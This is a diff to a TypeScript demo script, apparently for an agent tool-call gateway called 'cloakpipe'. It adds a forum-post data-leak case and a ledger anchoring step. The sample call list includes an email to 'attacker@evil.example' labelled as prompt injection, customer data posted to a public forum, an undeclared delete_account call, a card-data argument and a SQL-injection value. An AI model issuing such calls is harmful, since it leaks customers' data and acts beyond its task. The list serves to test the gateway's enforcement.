@@ -39,6 +39,7 @@ const calls: [string, string, Record<string, unknown>][] = [
   ['a declared lookup', 'lookup_customer', { customer_id: 'C104200' }],
   ['an email to the ticket\'s customer', 'send_email', { to: 'ada@example.com', subject: 'Your ticket', body: 'Fixed.' }],
   ['an email to an address the task does not name (prompt injection)', 'send_email', { to: 'attacker@evil.example', subject: 'data' }],
+  ['customer data to a public forum (the session has read confidential data)', 'post_to_forum', { text: 'Ada Lovelace, plan standard' }],
   ['a tool the release does not declare', 'delete_account', { customer_id: 'C104200' }],
   ['an argument the tool does not list', 'lookup_customer', { customer_id: 'C104200', include_card: true }],
   ['a value outside its rule', 'lookup_customer', { customer_id: "C1' OR 1=1" }],
@@ -58,6 +59,9 @@ await client.close();
 
 say(`\n$ cloakpipe ledger show --home ${home}`);
 process.stdout.write(cloakpipe('ledger', 'show', '--home', home).stdout);
+say(`\n$ cloakpipe ledger anchor --home ${home}     # seal an epoch (add --tsa/--rekor to anchor it outside)`);
+const sealed = cloakpipe('ledger', 'anchor', '--home', home);
+process.stdout.write(sealed.stdout + sealed.stderr);
 if (existsSync(join(root, 'dist/src/cli/verify.js'))) {
   say(`\n$ cloakpipe verify --home ${home}`);
   const v = cloakpipe('verify', '--home', home);
